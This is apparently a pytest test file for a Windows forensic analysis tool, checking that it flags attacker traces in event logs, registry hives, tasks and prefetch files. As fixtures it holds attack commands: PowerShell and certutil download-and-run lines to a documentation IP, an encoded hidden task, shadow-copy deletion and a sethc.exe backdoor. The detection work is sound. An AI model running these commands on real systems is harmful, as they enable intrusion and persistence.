# SPDX-License-Identifier: AGPL-3.0-or-later
"""Windows: event logs, registry with its transaction logs, services, tasks, accounts, prefetch; and what is ordinary there."""

import base64
import gzip
import json
import lzma
import struct
from pathlib import Path

import pytest
import windows_files as made
from clean_room_analysis.checks.windows_commands import windows_suspicions
from clean_room_analysis.checks.windows_events import WindowsEvents
from clean_room_analysis.checks.windows_programs import WindowsPrograms
from clean_room_analysis.checks.windows_registry import WindowsRegistry
from clean_room_analysis.checks.windows_tasks import WindowsTasks
from clean_room_analysis.cli import main
from clean_room_analysis.model import Finding, NotLookedAt, Severity, TimelineEvent
from clean_room_analysis.windows.registry import marvin32
from conftest import TreeMaker

AT = 1_700_000_000.0
LOGS = "/Windows/System32/winevt/Logs/"
CONFIG = "/Windows/System32/config/"
AUDIT = "Microsoft-Windows-Security-Auditing"
RUN = r"Microsoft\Windows\CurrentVersion\Run"


def log_in(at: float, user: str, host: str, way: int, number: int = 4624) -> made.Event:
    return (number, at, AUDIT, {"TargetUserName": user, "TargetDomainName": "EC2AMAZ", "LogonType": str(way), "IpAddress": host})


def said(findings: list[Finding]) -> dict[str, Severity]:
    return {one.title: one.severity for one in findings}


def test_log_ins_after_guesses_are_critical_and_ordinary_ones_are_told(plain: TreeMaker) -> None:
    guesses = [log_in(AT + one, "Administrator", "203.0.113.9", 3, 4625) for one in range(12)]
    events = [
        *guesses,
        log_in(AT + 20, "Administrator", "203.0.113.9", 10),
        log_in(AT + 30, "SYSTEM", "-", 5),
        log_in(AT + 40, "ann", "10.0.0.4", 10),
    ]
    plain.file(LOGS + "Security.evtx", made.event_log([*events, log_in(AT + 50, "bob", "127.0.0.1", 10)]))
    results = plain.results(WindowsEvents())
    found = [one for one in results if isinstance(one, Finding)]
    assert said(found) == {
        "EC2AMAZ\\Administrator logged in from 203.0.113.9 after 12 failed attempts from there": Severity.CRITICAL,
        "12 failed log-ins from 203.0.113.9": Severity.MEDIUM,
        "EC2AMAZ\\ann logged in from 10.0.0.4 (remote desktop)": Severity.INFORMATIONAL,
        "EC2AMAZ\\bob logged in from 127.0.0.1 (remote desktop), as through a tunnel": Severity.HIGH,
    }
    assert [one.at for one in results if isinstance(one, TimelineEvent) and "ann" in one.message] == [int(AT + 40) * 10**9]


@pytest.mark.parametrize(
    ("log", "event", "severity", "technique"),
    [
        ("System", (7045, "Service Control Manager", {"ServiceName": "Updater", "ImagePath": r"C:\Windows\Temp\u.exe", "AccountName": "LocalSystem"}), "high", "T1543.003"),
        ("System", (7045, "Service Control Manager", {"ServiceName": "BTOBTO", "ImagePath": r"%systemroot%\vqKRmTLn.exe"}), "high", "T1569.002"),
        ("System", (7045, "Service Control Manager", {"ServiceName": "AmazonSSMAgent", "ImagePath": r'"C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe"'}), "informational", "T1543.003"),
        ("Security", (4697, AUDIT, {"ServiceName": "x", "ServiceFileName": r"%COMSPEC% /Q /c echo whoami ^> \\127.0.0.1\C$\o"}), "high", "T1569.002"),
        ("System", (104, "Microsoft-Windows-Eventlog", {"SubjectUserName": "ann", "Channel": "System"}), "high", "T1070.001"),
        ("Security", (1102, "Microsoft-Windows-Eventlog", {"SubjectUserName": "ann"}), "high", "T1070.001"),
        ("Security", (4720, AUDIT, {"TargetUserName": "helpdesk", "TargetDomainName": "EC2AMAZ", "SubjectUserName": "ann"}), "medium", "T1136.001"),
        ("Security", (4732, AUDIT, {"MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1004", "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544"}), "high", "T1098.007"),
        ("Security", (4698, AUDIT, {"TaskName": r"\Upd", "TaskContent": "<Task><Actions><Exec><Command>mshta</Command><Arguments>http://198.51.100.4/a</Arguments></Exec></Actions></Task>"}), "high", "T1218.005"),
        ("Security", (4688, AUDIT, {"CommandLine": "vssadmin.exe delete shadows /all /quiet", "SubjectUserName": "ann"}), "high", "T1490"),
        ("Microsoft-Windows-PowerShell%4Operational", (4104, "Microsoft-Windows-PowerShell", {"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')"}), "high", "T1059.001"),
        ("Microsoft-Windows-Windows Defender%4Operational", (5001, "Microsoft-Windows-Windows Defender", {}), "high", "T1562.001"),
        ("Microsoft-Windows-WMI-Activity%4Operational", (5861, "Microsoft-Windows-WMI-Activity", {"ESS": "x", "CONSUMER": "CommandLineEventConsumer=evil"}), "high", "T1546.003"),
    ],
)  # fmt: skip
def test_events(plain: TreeMaker, log: str, event: tuple[int, str, dict[str, str]], severity: str, technique: str) -> None:
    plain.file(f"{LOGS}{log}.evtx", made.event_log([(event[0], AT, event[1], event[2])]))
    (found,) = plain.findings(WindowsEvents())
    assert (found.severity, found.modified) == (severity, int(AT) * 10**9)
    assert technique in found.attack


def test_an_event_log_larger_than_a_chunk_is_read_from_its_newest_part_and_damage_is_named(plain: TreeMaker) -> None:
    padding = [log_in(AT + one, "ann", "10.0.0.4", 3) for one in range(600)]
    content = bytearray(made.event_log([*padding, (1102, AT + 700, "Microsoft-Windows-Eventlog", {"SubjectUserName": "ann"})]))
    assert len(content) > 4096 + 3 * 65536
    content[4096 + 65536 : 4096 + 65536 + 512] = b"\xff" * 512
    plain.file(LOGS + "Security.evtx", bytes(content))
    results = plain.results(WindowsEvents())
    assert "The event log Security was cleared" in said([one for one in results if isinstance(one, Finding)])
    assert [one.why for one in results if isinstance(one, NotLookedAt) and one.incomplete] == [
        "1 parts of 64 KiB of this event log are damaged: events in them may be missing"
    ]


def test_what_is_no_event_log_is_an_error_of_the_check_and_takes_no_other_log_with_it(plain: TreeMaker) -> None:
    plain.file(LOGS + "Security.evtx", b"ElfFile?" + bytes(100_000))
    plain.file(LOGS + "System.evtx", made.event_log([(104, AT, "x", {"SubjectUserName": "ann", "Channel": "System"})]))
    check, seen = WindowsEvents(), []
    with pytest.raises(ValueError, match="Security.evtx.*no event log"):
        from clean_room_analysis.checks.base import Item
        from clean_room_analysis.mounted_tree import MountedTree

        tree = MountedTree(str(plain.root))
        for entry in tree.walk(lambda path, why: None):
            if check.wants(entry):
                seen += check.examine(Item(entry, tree, "vol"))
        for one in check.leave(tree):
            seen.append(one)
    assert any(isinstance(one, Finding) and "cleared" in one.title for one in seen)


def test_run_keys_services_and_what_log_on_starts(plain: TreeMaker) -> None:
    nt = r"Microsoft\Windows NT\CurrentVersion"
    plain.file(
        CONFIG + "SOFTWARE",
        made.hive(
            {
                RUN: {"SecurityHealth": r"%windir%\system32\SecurityHealthSystray.exe", "Upd": r"C:\Users\Public\u.exe -q"},
                rf"{nt}\Winlogon": {"Shell": "explorer.exe, C:\\x.exe", "Userinit": "C:\\Windows\\system32\\userinit.exe,"},
                rf"{nt}\Image File Execution Options\sethc.exe": {"Debugger": r"C:\Windows\System32\cmd.exe"},
                rf"{nt}\Schedule\TaskCache\Tree\Upd": {"Id": "{1}", "Index": 3},
                rf"{nt}\Schedule\TaskCache\Tree\Fine": {"Id": "{2}", "SD": b"\1\0"},
                r"Microsoft\Windows Defender\Exclusions\Paths": {r"C:\ProgramData": 0},
            }
        ),
    )
    plain.file(
        CONFIG + "SYSTEM",
        made.hive(
            {
                "Select": {"Current": 1},
                r"ControlSet001\Services\Spooler": {"ImagePath": r"%SystemRoot%\System32\spoolsv.exe", "ObjectName": "LocalSystem"},
                r"ControlSet001\Services\Upd": {"ImagePath": r"C:\PerfLogs\a.exe"},
                r"ControlSet001\Services\Lib\Parameters": {"ServiceDll": r"C:\Users\Public\l.dll"},
                r"ControlSet002\Services\Old": {"ImagePath": r"C:\PerfLogs\old.exe"},
                r"ControlSet001\Control\Lsa": {"Notification Packages": ["scecli", "passcatch"], "Security Packages": ['""']},
                r"ControlSet001\Control\SecurityProviders\WDigest": {"UseLogonCredential": 1},
                r"ControlSet001\Services\PortProxy\v4tov4\tcp": {"0.0.0.0/8080": "10.0.0.9/3389"},
            }
        ),
    )
    plain.file(
        "/Users/ann/NTUSER.DAT",
        made.hive({rf"Software\{RUN}": {"OneDrive": r"C:\Users\ann\AppData\Local\Microsoft\OneDrive\OneDrive.exe"}}),
    )
    found = {(one.severity.value, one.title, one.attack[0]) for one in plain.findings(WindowsRegistry())}
    assert found == {
        ("informational", "A run key starts a program", "T1547.001"),
        ("high", "A run key runs what lies where nothing is installed", "T1547.001"),
        ("high", "Log-on starts another program than Windows' own", "T1547.004"),
        ("critical", "sethc.exe of the log-on screen starts another program", "T1546.008"),
        ("high", "A scheduled task is hidden from the tools that list tasks", "T1564"),
        ("medium", "Defender leaves something out", "T1562.001"),
        ("high", "The service Upd, and runs what lies where nothing is installed", "T1543.003"),
        ("high", "The service Lib, and runs what lies where nothing is installed", "T1543.003"),
        ("high", "Log-in loads an unusual library: passcatch", "T1556.002"),
        ("high", "Windows keeps passwords in clear in memory", "T1112"),
        ("high", "Connections are handed on to another machine", "T1090.001"),
    }


def test_what_stands_only_in_a_transaction_log_is_found(plain: TreeMaker) -> None:
    before = made.hive({RUN: {"Fine": r"C:\Windows\SysW\fine.exe"}}, sequences=(2, 1))
    after = made.hive({RUN: {"Fine": r"C:\Users\Public\evil.exe"}}, sequences=(2, 1))
    plain.file(CONFIG + "SOFTWARE", before)
    plain.file(CONFIG + "SOFTWARE.LOG1", made.transaction_log(before, after, 1))
    (found,) = plain.findings(WindowsRegistry())
    assert (found.severity, "evil.exe" in found.evidence) == ("high", True)


def test_a_dirty_hive_without_a_log_that_fits_is_told_and_a_torn_entry_changes_nothing(plain: TreeMaker) -> None:
    before = made.hive({RUN: {"Fine": r"C:\Windows\SysW\fine.exe"}}, sequences=(2, 1))
    torn = bytearray(made.transaction_log(before, made.hive({RUN: {"Fine": r"C:\Users\Public\evil.exe"}}), 1))
    torn[-600] ^= 0xFF
    plain.file(CONFIG + "SOFTWARE", before)
    plain.file(CONFIG + "SOFTWARE.LOG1", bytes(torn))
    results = plain.results(WindowsRegistry())
    assert [one.severity for one in results if isinstance(one, Finding)] == ["informational"]
    assert "last changes are missing" in next(one.why for one in results if isinstance(one, NotLookedAt))


def test_marvin32_is_that_of_the_published_vectors() -> None:
    # dotnet/runtime, MarvinTests.cs: Seed1, then an empty string and others.
    seed = 0x004FB61A001BDBCC
    assert marvin32(b"", seed) == 0x30ED35C100CD3C7D
    assert marvin32(b"\xaf", seed) == 0x48E73FC77D75DDC1


def test_accounts(plain: TreeMaker) -> None:
    users = r"SAM\Domains\Account\Users"
    plain.file(
        CONFIG + "SAM",
        made.hive(
            {
                rf"{users}\000001F4": made.account(500, "Administrator"),
                rf"{users}\000001F5": made.account(501, "Guest", disabled=True),
                rf"{users}\000003E9": made.account(1001, "ann"),
                rf"{users}\000003EA": made.account(1002, "support$"),
                rf"{users}\000003EB": made.account(1003, "web", acts_as=500),
                r"SAM\Domains\Builtin\Aliases\00000220": made.group([500, 1002]),
            }
        ),
    )
    results = plain.results(WindowsRegistry())
    assert said([one for one in results if isinstance(one, Finding)]) == {
        "The account ann is a user of this machine": "informational",
        "The account support$ is named so that lists leave it out": "high",
        "The account support$ is an administrator of this machine": "low",
        "The account web acts with the number of another account (500)": "critical",
        "The account web is a user of this machine": "informational",
    }
    assert (1_700_000_500 * 10**9, "ann logged in last") in {(one.at, one.message) for one in results if isinstance(one, TimelineEvent)}


def test_tasks_by_what_they_execute(plain: TreeMaker) -> None:
    text = '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Settings><Hidden>{}</Hidden></Settings><Actions><Exec><Command>{}</Command><Arguments>{}</Arguments></Exec></Actions></Task>'
    encoded = base64.b64encode("iex (iwr http://198.51.100.4/a)".encode("utf-16-le")).decode()
    for name, hidden, command, arguments in (
        ("Upd", "true", "powershell.exe", f"-w hidden -enc {encoded}"),
        ("Backup", "false", r"C:\Program Files\B\b.exe", ""),
        ("Microsoft/Windows/Defrag/ScheduledDefrag", "false", r"%windir%\system32\defrag.exe", "-c"),
        ("Microsoft/Windows/Upd", "false", r"C:\ProgramData\u.exe", ""),
    ):
        plain.file(f"/Windows/System32/Tasks/{name}", text.format(hidden, command, arguments).encode("utf-16"))
    titles = {(one.severity.value, one.title) for one in plain.findings(WindowsTasks())}
    assert ("informational", "Scheduled task that is none of Windows' own") in titles
    assert any(severity == "high" and "downloads and runs in one line" in title for severity, title in titles)
    assert ("high", "Scheduled task that runs what lies where nothing is installed") in titles
    assert len(titles) == 3


def test_a_task_made_to_swell_is_an_error_and_nothing_else(plain: TreeMaker) -> None:
    plain.file("/Windows/System32/Tasks/Bomb", '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Task>&b;</Task>')
    with pytest.raises(ValueError, match="no task"):
        plain.findings(WindowsTasks())


def test_prefetch_histories_start_folders_and_programs_in_odd_places(plain: TreeMaker) -> None:
    plain.file("/Windows/Prefetch/U.EXE-1.pf", made.prefetch("U.EXE", r"\VOLUME{1}\USERS\PUBLIC\U.EXE", 3, [AT, AT - 60]))
    plain.file("/Windows/Prefetch/CMD.EXE-1.pf", made.prefetch("CMD.EXE", r"\VOLUME{1}\WINDOWS\SYSTEM32\CMD.EXE", 3, [AT]))
    plain.file("/Windows/Prefetch/BAD.EXE-1.pf", b"MAM\x04" + struct.pack("<I", 1 << 30) + b"\xff" * 400)
    plain.file(
        "/Users/ann/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
        "cd x\nAdd-MpPreference -ExclusionPath C:\\\n",
    )
    plain.file(
        "/ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/u.bat",
        "@echo off\r\ncertutil -urlcache -f http://198.51.100.4/a a.exe\r\n",
    )
    plain.file("/Users/Public/u.exe", b"MZ" + bytes(100))
    plain.file("/Windows/System32/notepad.exe", b"MZ" + bytes(100))
    results = plain.results(WindowsPrograms())
    assert said([one for one in results if isinstance(one, Finding)]) == {
        "U.EXE ran from where nothing is installed": "medium",
        "A PowerShell history has a line that switches off the virus protection": "high",
        "A start folder holds what downloads with a program of the system": "high",
        "A program or script lies where nothing is installed": "medium",
    }
    assert [one.at for one in results if isinstance(one, TimelineEvent) and "U.EXE" in one.message] == [
        int(AT) * 10**9,
        int(AT - 60) * 10**9,
    ]
    assert any(isinstance(one, NotLookedAt) and "BAD.EXE" in one.what for one in results)


@pytest.mark.parametrize(
    "command",
    [
        r'"C:\Program Files\Amazon\EC2Launch\EC2Launch.exe" service',
        r"%systemroot%\system32\rundll32.exe %systemroot%\system32\pla.dll,PlaHost",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p",
        r"powershell.exe -NoProfile -ExecutionPolicy Unrestricted -File C:\ProgramData\Amazon\EC2-Windows\Launch\Scripts\InitializeInstance.ps1",
        r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24\MsMpEng.exe"',
        "Get-ChildItem C:\\Users | Select-Object Name",
        "Invoke-WebRequest -Uri https://aws.amazon.com/x.msi -OutFile x.msi",
        r"%SystemRoot%\System32\LogonUI.exe",
        r"%windir%\system32\certutil.exe -pulse",
    ],
)  # fmt: skip
def test_ordinary_commands_of_windows(command: str) -> None:
    assert windows_suspicions(command, "T1543.003") == ()


@pytest.mark.parametrize("path", ["/usr/share/windows/System32/winevt/Logs/Security.evtx", "/srv/Windows/System32/config/SAM"])
def test_only_where_windows_has_them(plain: TreeMaker, path: str) -> None:
    plain.file(path, b"x")
    for check in (WindowsEvents(), WindowsRegistry(), WindowsTasks(), WindowsPrograms()):
        assert plain.results(check) == []


def test_a_windows_disk_is_read_as_a_whole(tmp_path: Path) -> None:
    disk = tmp_path / "disk.img"
    disk.write_bytes(lzma.decompress((Path(__file__).parent / "data/windows.img.xz").read_bytes()))
    assert main(["--evidence", str(disk), "--out", str(tmp_path / "out")]) == 0
    summary = json.loads((tmp_path / "out/summary.json").read_text())
    assert summary["operatingSystem"] == {"name": "Windows Server 2022 Datacenter", "version": "21H2 build 20348", "hostname": "EC2AMAZ-1"}
    assert summary["findingsBySeverity"] == {"critical": 2, "high": 4, "medium": 3, "low": 0, "informational": 1}
    assert any("shadow copies" in one["why"] for one in summary["notLookedAt"] if one["what"].endswith(": Windows"))
    # NTFS has no modes: what nobody said must not read as "anybody may write".
    assert "rwxrwxrwx" not in gzip.decompress((tmp_path / "out/bodyfile.gz").read_bytes()).decode()
    assert "service Upd was installed" in gzip.decompress((tmp_path / "out/timeline.csv.gz").read_bytes()).decode()


def test_files_made_here_are_read_by_the_parsers_own_interface(tmp_path: Path) -> None:
    from dissect.eventlog.evtx import Evtx
    from dissect.regf import RegistryHive

    (tmp_path / "log").write_bytes(made.event_log([log_in(AT, "ann", "10.0.0.4", 3)]))
    with (tmp_path / "log").open("rb") as handle:
        (record,) = Evtx(handle)
    assert (str(record["TargetUserName"]), int(str(record["EventID"]))) == ("ann", 4624)
    (tmp_path / "hive").write_bytes(made.hive({RUN: {"a": "b"}}))
    with (tmp_path / "hive").open("rb") as handle:
        assert RegistryHive(handle).open(RUN).value("a").value == "b"
